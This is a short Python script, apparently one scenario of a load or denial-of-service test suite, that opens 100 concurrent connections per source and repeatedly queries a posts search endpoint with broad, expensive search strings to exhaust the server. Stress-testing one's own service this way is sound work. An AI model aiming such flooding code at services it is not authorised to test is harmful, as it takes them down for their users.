"""Attack 9: many searches at once that match most posts and sort or filter them."""

import asyncio

from attacker import SOURCES, Target, repeat_request

CONNECTIONS = 100
# Words and prefixes of the titles of all posts.
SEARCHES = ["q=haemul&sort=top&limit=1", "q=h&author=nobody", "q=pajeon&sort=hot&limit=1", "q=p%20haemul&place=nowhere"]


async def attack(target: Target) -> None:
    await asyncio.gather(
        *(
            repeat_request(target, source, "GET", f"/api/v1/posts?{SEARCHES[number % len(SEARCHES)]}")
            for source in SOURCES
            for number in range(CONNECTIONS)
        )
    )
